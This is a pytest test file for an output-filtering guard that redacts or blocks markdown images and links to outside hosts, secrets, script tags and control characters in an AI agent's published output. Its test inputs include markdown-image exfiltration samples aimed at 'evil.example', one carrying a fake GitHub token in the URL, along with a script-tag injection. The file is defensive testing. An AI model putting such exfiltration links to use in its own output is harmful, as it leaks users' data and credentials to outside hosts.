"""Published text at the gate: what is taken out, for whom, and what configuration can say of it."""

from __future__ import annotations

import pytest

from guardhouse.guard import FixedPolicy, Guard
from guardhouse.model import Decision, OutputPublish, ToolCallPost
from guardhouse.suites.interface import StillWorld, policy_for


def gate(**guard):
    return Guard(FixedPolicy(policy_for(guard)), resolver=StillWorld(), files=StillWorld())


def test_an_image_of_another_host_becomes_words():
    verdict = gate().evaluate(OutputPublish(content="Done. ![x](https://evil.example/p.png?d=1)"))
    assert verdict.decision is Decision.ALLOW_WITH_REDACTION
    assert verdict.content == "Done. x (image removed)"
    assert [reason.code for reason in verdict.reasons] == ["output.image"]
    assert "evil.example" in verdict.for_person


def test_output_has_an_allowlist_of_its_own():
    config = {"network": {"output": {"allowed_domains": ["good.example"]}}}
    assert gate(**config).evaluate(OutputPublish(content="[x](https://good.example/)")).decision is Decision.ALLOW
    assert gate().evaluate(OutputPublish(content="[x](https://good.example/)")).content == "x (link removed)"


def test_every_string_of_a_structured_answer_is_looked_at():
    content = {"parts": [{"text": "[a](https://evil.example/)"}, 3], "![k](//evil.example/)": "v"}
    verdict = gate().evaluate(OutputPublish(content=content))
    assert verdict.content == {"parts": [{"text": "a (link removed)"}, 3], "k (image removed)": "v"}


def test_a_secret_and_a_link_are_both_gone():
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    verdict = gate().evaluate(OutputPublish(content=f"{token} ![x](https://evil.example/{token})"))
    assert token not in str(verdict.content)
    assert "evil.example" not in str(verdict.content)


def test_a_finding_can_be_made_stricter_or_let_through():
    link = OutputPublish(content="[x](https://evil.example/)")
    assert gate(findings={"output.link": "deny"}).evaluate(link).decision is Decision.DENY
    assert gate(findings={"output.link": "allow"}).evaluate(link).decision is Decision.ALLOW


def test_only_what_is_to_be_masked_is_taken_out():
    text = OutputPublish(content="[x](https://evil.example/) \x07")
    verdict = gate(findings={"output.link": "allow"}).evaluate(text)
    assert verdict.content == "[x](https://evil.example/) "


def test_results_are_not_output():
    verdict = gate().evaluate(ToolCallPost(tool="url_fetch", content="![x](https://evil.example/p.png)"))
    assert not [reason for reason in verdict.reasons if reason.code.startswith("output.")]


def test_a_detector_that_fails_does_not_let_output_through(monkeypatch):
    def broken(*_args):
        raise RuntimeError

    monkeypatch.setattr("guardhouse.detect.output.judging.faults", broken)
    verdict = gate().evaluate(OutputPublish(content="![x](https://evil.example/p.png)"))
    assert verdict.decision is Decision.DENY


def test_text_that_can_not_be_cleaned_does_not_go_out(monkeypatch):
    def broken(*_args):
        raise RuntimeError

    monkeypatch.setattr("guardhouse.detect.output.judging.cleaned", broken)
    verdict = gate().evaluate(OutputPublish(content="![x](https://evil.example/p.png)"))
    assert verdict.decision is Decision.DENY


@pytest.mark.parametrize("content", ["", "plain", {}, [], None, 3, {"a": [None, 1.5]}])
def test_nothing_is_found_in_what_holds_nothing(content):
    assert gate().evaluate(OutputPublish(content=content)).decision is Decision.ALLOW


@pytest.mark.parametrize("many", ["[a](https://evil.example/) ", "\x07"])
def test_many_of_one_kind_do_not_hide_another(many):
    text = many * 150 + "![x](https://evil.example/?d=1) <script>go()</script>"
    verdict = gate(findings={"output.terminal_commands": "allow"}).evaluate(OutputPublish(content=text))
    assert "?d=1" not in str(verdict.content)
    assert "<script>" not in str(verdict.content)
    strict = gate(findings={"output.active_content": "deny"})
    assert strict.evaluate(OutputPublish(content=text)).decision is Decision.DENY
